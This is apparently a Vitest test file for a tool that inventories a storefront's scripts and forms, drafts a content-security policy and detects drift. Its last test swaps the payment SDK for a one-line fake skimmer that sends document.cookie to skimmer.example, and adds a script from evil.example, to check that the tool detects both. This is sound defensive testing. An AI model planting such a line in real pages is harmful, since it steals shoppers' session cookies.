import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compareWithPolicy } from '../../src/inventory/compare.js';
import { crawl } from '../../src/inventory/crawl.js';
import { draftPolicyYaml } from '../../src/inventory/draft.js';
import { buildInventory, type InventoryItem } from '../../src/inventory/inventory.js';
import { findTodoJustifications } from '../../src/policy/lint.js';
import { ALLOW_KINDS } from '../../src/policy/model.js';
import { parsePolicyText } from '../../src/policy/parse.js';
import { cspHashes } from '../../src/verify/index.js';
import { emptyPolicy } from '../helpers/policies.js';
import { SCRIPT_BODIES, sri, startTestShop, type TestShop } from './shop.js';

const LIMITS = { timeoutMs: 10_000, maxBytes: 1024 * 1024 };
let t: TestShop;
let site: string;
let items: InventoryItem[];
let pages: string[];

beforeAll(async () => {
  t = await startTestShop();
  site = t.shop.origin.origin;
  const result = await crawl({ startUrls: [t.shop.url], maxPages: 10, limits: LIMITS, policy: emptyPolicy({ site }) });
  expect(result.problems).toEqual([]);
  items = buildInventory(result, site);
  pages = result.pages.map((p) => p.page);
});
afterAll(() => t.close());

const item = (list: string, address: string) => items.find((i) => i.list === list && i.address === address);

describe('payguard inventory against a local storefront with known scripts and forms', () => {
  it('crawls exactly the same-origin pages, never the foreign link', () => {
    expect([...pages].sort()).toEqual(t.expected.pages.map((p) => site + p).sort());
    expect(t.shop.requestsFor('/products/1')).toHaveLength(1);
  });

  it('lists every script with the SRI hash of the body it serves and the pages it is on', () => {
    for (const [path, onPages] of Object.entries(t.expected.scripts)) {
      const address = path.startsWith('/') ? site + path : path;
      const found = item('script', address);
      expect(found, address).toBeDefined();
      expect(found!.sri).toBe(sri(SCRIPT_BODIES[new URL(address).pathname as keyof typeof SCRIPT_BODIES]));
      expect(found!.pages).toEqual(onPages.map((p) => site + p).sort());
    }
    expect(items.filter((i) => i.list === 'script')).toHaveLength(Object.keys(t.expected.scripts).length);
  });

  it('lists the form target, the frame and the inline script hash', () => {
    expect(item('form', t.expected.forms[0]!)?.pages).toEqual([`${site}/checkout/`]);
    expect(items.filter((i) => i.list === 'frame').map((i) => i.origin)).toEqual(t.expected.frames);
    expect(item('inline', cspHashes(t.expected.inline[0]!)[0]!)?.pages).toEqual([`${site}/`]);
  });

  it('drafts a policy that validates, pins third-party scripts by URL and integrity, and has why: TODO everywhere', () => {
    const policy = parsePolicyText(draftPolicyYaml(items, site, pages), 'draft.yaml');
    expect(policy.serial).toBe(1);
    expect(policy.site).toBe(site);
    expect(policy.routes.map((r) => [r.path, r.mode])).toEqual([...t.expected.blockRoutes.map((p) => [p, 'block']), ['/**', 'report']]);
    const scripts = policy.allow.script.map((e) => (e.type === 'url' ? [e.url, e.integrity] : e));
    expect(scripts).toEqual([
      [`${t.cdn.origin.origin}/lib/analytics.js`, [sri(SCRIPT_BODIES['/lib/analytics.js'])]],
      [`${t.cdn.origin.origin}/sdk/pay.js`, [sri(SCRIPT_BODIES['/sdk/pay.js'])]],
    ]);
    const entries = ALLOW_KINDS.reduce((n, k) => n + policy.allow[k].length, 0);
    expect(findTodoJustifications(policy)).toHaveLength(entries);
    // 2 scripts, 1 form, 1 frame, 1 inline, and the foreign link the pages carry (issue 17 class 4).
    expect(entries).toBe(6);
    expect(policy.allow.navigate.map((e) => (e.type === 'origin' ? e.origin : e))).toHaveLength(1);
  });

  it('a crawl that found nothing still drafts a valid policy (report everywhere)', () => {
    const policy = parsePolicyText(draftPolicyYaml([], 'https://shop.example', []), 'empty.yaml');
    expect(policy.routes).toEqual([{ path: '/**', mode: 'report' }]);
  });

  it('compared with its own draft: nothing new, nothing gone; a swapped script body is a changed hash', async () => {
    const policy = parsePolicyText(draftPolicyYaml(items, site, pages), 'draft.yaml');
    expect(compareWithPolicy(items, policy)).toEqual({ new: [], gone: [], changedHash: [] });

    t.cdn.page('/sdk/pay.js', { headers: [['content-type', 'text/javascript']], body: 'fetch("https://skimmer.example/?c="+document.cookie)' });
    t.shop.page('/checkout/', { headers: [['content-type', 'text/html']], body: `<script src="${t.cdn.origin.origin}/sdk/pay.js"></script><script src="https://evil.example/x.js"></script>` });
    const again = await crawl({ startUrls: [`${site}/checkout/`], maxPages: 1, limits: LIMITS, policy });
    const diff = compareWithPolicy(buildInventory(again, site), policy);
    expect(diff.changedHash.map((c) => c.item.address)).toEqual([`${t.cdn.origin.origin}/sdk/pay.js`]);
    expect(diff.new.map((i) => i.address)).toEqual(['https://evil.example/x.js']);
    expect(diff.gone.map((g) => g.list).sort()).toEqual(['form', 'frame', 'inline', 'navigate', 'script']);
  });
});
